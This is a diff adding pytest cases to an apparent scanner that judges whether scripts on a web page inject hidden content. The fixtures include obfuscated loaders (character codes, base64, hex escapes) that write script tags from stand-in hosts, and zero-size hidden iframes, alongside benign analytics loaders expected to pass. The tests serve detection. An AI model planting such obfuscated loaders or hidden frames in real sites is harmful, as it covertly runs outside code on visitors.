@@ -61,6 +61,54 @@ def test_links_that_a_script_writes_are_a_hint(page, plants, script):
     assert [(found.key, found.status) for found in outcome.findings] == [("writes", Status.WARN)]
 
 
+LOADED = "document.write('<script src=\\'http://js.tj-88.example.com/a.js\\'></'+'script>')"
+ESCAPED = "".join(f"\\x{ord(one):02x}" for one in "https://js.abc.example.com/a.js")
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"eval(String.fromCharCode({','.join(str(ord(one)) for one in LOADED)}))",
+        f"eval(atob('{base64.b64encode(LOADED.encode()).decode()}'))",
+        f"var _=['src','script','{ESCAPED}'];var s=document.createElement(_[1]);s[_[0]]=_[2];document.body.append(s)",
+    ],
+)
+def test_what_is_loaded_by_codes_from_a_strange_host_is_asked_about(page, plants, script):
+    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
+    assert [(found.key, found.status) for found in outcome.findings] == [("assembled", Status.MANUAL)]
+
+
+@pytest.mark.parametrize("size", ["width=0 height=0", "style='display:none' width=1 height=1"])
+def test_a_frame_that_a_script_writes_and_nobody_sees_is_a_hint(page, plants, size):
+    script = f"<script>document.writeln(\"<iframe src='http://www.sl-yx.com/x.htm' {size}></iframe>\")</script>"
+    assert [found.key for found in judge(scripted, plants(page(script))).findings] == ["writes"]
+
+
+@pytest.mark.parametrize(
+    "frame",
+    [
+        "<iframe src='http://www.tianqi-yb.com/widget' width=250 height=60></iframe>",
+        "<iframe src='/tongji/count.jsp' width=0 height=0></iframe>",
+        "<iframe src='https://sso.sl-zwfw.com/login/check?silent=1' style='display:none'></iframe>",
+        "<iframe src='http://kf.sl-im.com/webcall.php' width=0 height=0></iframe>",
+    ],
+)
+def test_frames_that_offices_write_are_no_hint(page, plants, frame):
+    assert judge(scripted, plants(page(f'<script>document.write("{frame}")</script>'))).status is Status.PASS
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "document.write(unescape(\"%3Cscript src='http://tongji.sl-it.example.com/c.js'%3E%3C/script%3E\"))",
+        "var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js?'+String.fromCharCode(97)",
+        "var k=atob('eyJpZCI6MX0=');var s=document.createElement('script');s.src='//kf.sl-im.example.com/a.js'",
+    ],
+)
+def test_counters_and_chats_that_are_loaded_as_usual_are_no_question(page, plants, script):
+    assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS
+
+
 def test_a_script_that_hides_the_element_around_them_is_a_hint(page, plants, spam):
     markup = f'<div id="k">{spam}</div><script>document.getElementById("k").style.display="none";</script>'
     assert [found.key for found in judge(scripted, plants(page(markup))).findings] == ["hides"]
